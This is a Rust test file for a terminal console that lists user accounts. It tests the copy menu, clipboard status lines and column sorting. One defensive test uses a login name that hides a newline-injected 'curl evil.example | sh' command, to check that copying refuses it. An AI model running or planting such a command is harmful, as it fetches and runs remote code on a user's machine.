//! `y` and the copy menu, `s` and the sort picker, `S`, and sorting a locally filtered search.

use super::*;
use crate::api::wire::{HumanEmail, HumanProfile, HumanUser, ListDetails, ListUsersResponse, UserFieldName};
use crate::tui::clipboard::{ClipText, Clipboard};
use crossterm::event::{KeyCode, KeyModifiers};

fn key(app: &mut App, code: KeyCode) -> (bool, Vec<Effect>) {
    app.update(Msg::Key(KeyEvent::new(code, KeyModifiers::NONE)))
}

fn human(id: &str, name: &str, email: &str, verified: bool) -> User {
    User {
        user_id: id.into(),
        preferred_login_name: format!("{name}@acme.zitadel.cloud"),
        human: Some(HumanUser {
            profile: Some(HumanProfile {
                display_name: Some(name.into()),
                ..HumanProfile::default()
            }),
            email: (!email.is_empty()).then(|| HumanEmail {
                email: email.into(),
                is_verified: verified,
            }),
            ..HumanUser::default()
        }),
        ..User::default()
    }
}

fn reply(users: Vec<User>, total: u64) -> Result<ListUsersResponse, ApiError> {
    Ok(ListUsersResponse {
        details: ListDetails {
            total_result: total,
            ..ListDetails::default()
        },
        result: users,
        ..ListUsersResponse::default()
    })
}

/// The one ListUsers effect's id and request.
fn list_request(effects: &[Effect]) -> (RequestId, ListUsersRequest) {
    let found: Vec<_> = effects
        .iter()
        .filter_map(|e| match e {
            Effect::ListUsers { id, request } => Some((*id, request.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(found.len(), 1, "exactly one list request in {effects:?}");
    found[0].clone()
}

/// The console with `users` listed and the first selected.
fn listed(users: Vec<User>) -> App {
    let mut a = App::new(Connection::default(), 80, 24);
    let (id, _) = list_request(&a.start());
    let total = users.len() as u64;
    a.update(Msg::Listed {
        id,
        result: reply(users, total),
    });
    a
}

fn jane() -> User {
    human("312909075211944344", "jane", "jane@acme.example", false)
}

fn copied(value: &str) -> Vec<Effect> {
    vec![Effect::CopyText(ClipText::new(value).expect("copyable"))]
}

#[test]
fn y_then_1_copies_the_selected_users_id_and_says_so_until_the_next_key() {
    let mut a = listed(vec![jane(), human("2", "bob", "bob@acme.example", true)]);
    let (changed, effects) = key(&mut a, KeyCode::Char('y'));
    assert!(changed && effects.is_empty());
    assert_eq!(a.keymap().name(), "copy");
    assert!(a.popup_open());
    let (changed, effects) = key(&mut a, KeyCode::Char('1'));
    assert!(changed);
    assert_eq!(effects, copied("312909075211944344"));
    assert!(a.copy_menu.is_none(), "choosing closes the menu");
    assert_eq!(
        a.status_note.as_deref(),
        Some("user ID sent to the terminal's clipboard (if it allows OSC 52)")
    );
    let (changed, _) = key(&mut a, KeyCode::Char('j'));
    assert!(changed);
    assert_eq!(a.status_note, None, "the next key clears the note");
    assert_eq!(a.list.selected, 1, "and does what it does");
}

/// `y` `1` with the clipboard decided as `clipboard`: the effect and the status line.
fn copy_user_id_with(clipboard: Clipboard) -> (Vec<Effect>, Option<String>) {
    let mut a = listed(vec![jane()]);
    a.connection.clipboard = clipboard;
    key(&mut a, KeyCode::Char('y'));
    let (_, effects) = key(&mut a, KeyCode::Char('1'));
    (effects, a.status_note.clone())
}

#[test]
fn the_status_line_says_where_the_copy_went_and_what_it_needs() {
    let said = |c| copy_user_id_with(c).1.unwrap_or_default();
    assert_eq!(
        said(Clipboard::Tmux),
        "user ID sent to the clipboard — tmux needs set-clipboard on"
    );
    assert_eq!(
        said(Clipboard::TmuxPassthrough),
        "user ID sent to the clipboard — tmux needs allow-passthrough on"
    );
    assert_eq!(
        said(Clipboard::Screen),
        "user ID sent via screen (if the terminal allows OSC 52)"
    );
    let (effects, note) = copy_user_id_with(Clipboard::Off);
    assert_eq!(
        note.as_deref(),
        Some("user ID not copied: copying is off (set clipboard = osc52)")
    );
    // The executor writes nothing for it (`Clipboard::sequence` is `None`).
    assert_eq!(effects, copied("312909075211944344"));
    assert_eq!(Clipboard::Off.sequence("312909075211944344"), None);
}

#[test]
fn y_in_the_detail_copies_the_freshly_read_users_email_and_login_name() {
    let mut a = listed(vec![jane()]);
    let (_, effects) = key(&mut a, KeyCode::Enter);
    let Some(Effect::GetUser { id, .. }) = effects.first() else {
        panic!("{effects:?}")
    };
    // The address changed since the list was read: the detail's is the one copied.
    let fresh = human("312909075211944344", "jane", "jane.doe@acme.example", true);
    a.update(Msg::GotUser {
        id: *id,
        result: Ok(fresh),
    });
    key(&mut a, KeyCode::Char('y'));
    assert_eq!(key(&mut a, KeyCode::Char('2')).1, copied("jane.doe@acme.example"));
    key(&mut a, KeyCode::Char('y'));
    key(&mut a, KeyCode::Down);
    key(&mut a, KeyCode::Down);
    assert_eq!(key(&mut a, KeyCode::Enter).1, copied("jane@acme.zitadel.cloud"));
    assert_eq!(a.mode, Mode::Detail, "the detail stays");
}

#[test]
fn a_missing_email_or_a_hidden_character_copies_nothing_and_the_menu_says_why() {
    let mut sneaky = human("7", "mallory", "", false);
    sneaky.preferred_login_name = "mallory\n curl evil.example | sh".into();
    let mut a = listed(vec![sneaky]);
    key(&mut a, KeyCode::Char('y'));
    for digit in ['2', '3'] {
        let (changed, effects) = key(&mut a, KeyCode::Char(digit));
        assert!(changed, "the refusal is shown");
        assert!(effects.is_empty(), "{digit}: {effects:?}");
        assert!(a.copy_menu.as_ref().is_some_and(|m| m.refused));
    }
    assert_eq!(a.status_note, None);
    assert_eq!(key(&mut a, KeyCode::Esc), (true, Vec::new()));
    assert!(a.copy_menu.is_none());
    // Pasted text does not reach a list behind a popup.
    key(&mut a, KeyCode::Char('y'));
    assert_eq!(a.update(Msg::Paste("abc".into())), (false, Vec::new()));
}

#[test]
fn y_on_an_empty_list_opens_nothing() {
    let mut a = listed(Vec::new());
    assert_eq!(key(&mut a, KeyCode::Char('y')), (false, Vec::new()));
    assert!(a.copy_menu.is_none());
}

#[test]
fn s_opens_the_picker_and_a_digit_reads_the_list_again_by_that_column() {
    let mut a = listed(vec![jane()]);
    let (changed, effects) = key(&mut a, KeyCode::Char('s'));
    assert!(changed && effects.is_empty(), "opening reads nothing");
    assert_eq!(a.keymap().name(), "sort");
    let (_, effects) = key(&mut a, KeyCode::Char('3'));
    let (_, req) = list_request(&effects);
    assert_eq!(req.sorting_column, UserFieldName::Email);
    assert_eq!(req.query.map(|q| (q.offset, q.asc)), Some((0, true)));
    assert!(a.sort_picker.is_none());
    assert_eq!(
        a.sort,
        ListSort {
            column: UserFieldName::Email,
            ascending: true
        }
    );
}

#[test]
fn d_in_the_picker_and_s_capital_in_the_list_sort_descending() {
    let mut a = listed(vec![jane()]);
    key(&mut a, KeyCode::Char('s'));
    key(&mut a, KeyCode::Char('d'));
    let (_, effects) = key(&mut a, KeyCode::Char('5'));
    let (_, req) = list_request(&effects);
    assert_eq!(req.sorting_column, UserFieldName::CreationDate);
    assert_eq!(req.query.map(|q| q.asc), Some(false));
    // `S` reverses the order in effect in one key.
    let (_, effects) = a.update(Msg::Key(KeyEvent::new(KeyCode::Char('S'), KeyModifiers::SHIFT)));
    let (_, req) = list_request(&effects);
    assert_eq!(
        (req.sorting_column, req.query.map(|q| q.asc)),
        (UserFieldName::CreationDate, Some(true))
    );
}

#[test]
fn picking_the_order_in_effect_or_esc_reads_nothing() {
    let mut a = listed(vec![jane()]);
    key(&mut a, KeyCode::Char('s'));
    assert_eq!(
        key(&mut a, KeyCode::Enter),
        (true, Vec::new()),
        "display name ↑ already"
    );
    assert!(a.sort_picker.is_none());
    key(&mut a, KeyCode::Char('s'));
    assert_eq!(key(&mut a, KeyCode::Esc), (true, Vec::new()));
    assert_eq!(a.sort, ListSort::default());
}

/// Users `from..from + n` by ID, named so that ID order, name order and email order all
/// differ; every fourth has an unverified address.
fn scanned_users(from: usize, n: usize) -> Vec<User> {
    (from..from + n)
        .map(|i| {
            let name = format!("user {:02}", (i * 7) % 100);
            let email = format!("{:02}@acme.example", 99 - (i * 7) % 100);
            human(&format!("{i:04}"), &name, &email, i % 4 != 0)
        })
        .collect()
}

fn emails(a: &App) -> Vec<String> {
    a.list.visible(0, a.list.len()).map(|r| r.email.clone()).collect()
}

#[test]
fn sorting_a_locally_filtered_search_orders_the_matches_and_the_scan_runs_on() {
    let mut a = listed(vec![jane()]);
    key(&mut a, KeyCode::Char('/'));
    for c in "verified:false".chars() {
        key(&mut a, KeyCode::Char(c));
    }
    let (_, effects) = key(&mut a, KeyCode::Enter);
    assert_eq!(a.search.error, None);
    let (scan_id, req) = list_request(&effects);
    assert_eq!(
        req.sorting_column,
        UserFieldName::Unspecified,
        "the scan walks by ID"
    );
    // Sorting before the first page: nothing to order yet, nothing read.
    key(&mut a, KeyCode::Char('s'));
    assert_eq!(key(&mut a, KeyCode::Char('2')), (true, Vec::new()));
    assert!(!a.list.loaded, "the list still waits for the scan");

    // The first 1,000 of 1,500: the scan asks for the rest.
    let (_, effects) = a.update(Msg::Listed {
        id: scan_id,
        result: reply(scanned_users(0, 1000), 1500),
    });
    let (next_id, next) = list_request(&effects);
    assert_eq!(next.query.map(|q| q.offset), Some(1000));
    assert_eq!(a.list.len(), 250, "the unverified quarter");

    // Sorting by email, descending, while the next page is on its way: no page is read.
    key(&mut a, KeyCode::Char('s'));
    key(&mut a, KeyCode::Char('d'));
    let (changed, effects) = key(&mut a, KeyCode::Char('3'));
    assert!(changed);
    assert!(
        effects.is_empty(),
        "no server page for a scanned list: {effects:?}"
    );
    let shown = emails(&a);
    let mut want = shown.clone();
    want.sort_by(|x, y| y.cmp(x));
    assert_eq!(shown, want, "by email, descending");
    assert_eq!(a.list.len(), 250);
    assert!(a.busy(), "the scan's page is still awaited");

    // The scan's page is still taken, and ordered as chosen.
    a.update(Msg::Listed {
        id: next_id,
        result: reply(scanned_users(1000, 500), 1500),
    });
    let progress = a.scan_progress().expect("a scan");
    assert!(progress.complete, "{progress:?}");
    let shown = emails(&a);
    assert_eq!(shown.len(), 375);
    let mut want = shown.clone();
    want.sort_by(|x, y| y.cmp(x));
    assert_eq!(shown, want);
    assert!(!a.busy());
    // And a refresh scans again, from the start.
    let (_, effects) = a.update(Msg::Key(KeyEvent::new(KeyCode::F(5), KeyModifiers::NONE)));
    let (_, again) = list_request(&effects);
    assert_eq!(again.query.map(|q| q.offset), Some(0));
    assert_eq!(again.sorting_column, UserFieldName::Unspecified);
}
